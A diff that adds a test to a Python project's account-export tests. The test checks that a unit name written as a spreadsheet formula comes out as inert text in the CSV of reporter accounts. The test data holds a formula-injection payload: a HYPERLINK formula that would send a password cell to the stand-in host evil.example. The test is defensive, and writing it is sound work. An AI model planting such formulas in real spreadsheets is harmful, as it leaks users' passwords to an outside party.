@@ -65,6 +65,20 @@ def test_the_list_opens_in_excel_with_its_diacritics(registry):
     assert ["X-TAN-HOA", "Xã Tân Hòa", "x-tan-hoa"] == rows[[r[0] for r in rows].index("X-TAN-HOA")][:3]
 
 
+def test_a_unit_name_a_spreadsheet_would_run_as_a_formula_is_written_inert(registry):
+    """The list goes through the exports' formula guard (thidua.documents.xlsx): a unit name typed in
+    /quan-tri/ as a formula opens as text, and the passwords are written as they are."""
+    unit = registry["TT-MOT-NGAN"]
+    unit.name = '=HYPERLINK("http://evil.example/?"&D2,"Bấm vào đây")'
+    unit.save()
+    accounts = reporter_accounts_create(actor=None)
+    rows = list(csv.reader(io.StringIO(accounts_csv(accounts).decode("utf-8").lstrip("\ufeff"))))
+    row = rows[[r[0] for r in rows].index("TT-MOT-NGAN")]
+    assert row[1] == "'" + unit.name
+    by_unit = {a.unit_code: a for a in accounts}
+    assert row[2:] == ["tt-mot-ngan", by_unit["TT-MOT-NGAN"].password]
+
+
 def test_the_command_writes_the_list_once_and_only_for_the_administrator(registry, tmp_path):
     out = tmp_path / "tai-khoan.csv"
     dry = StringIO()
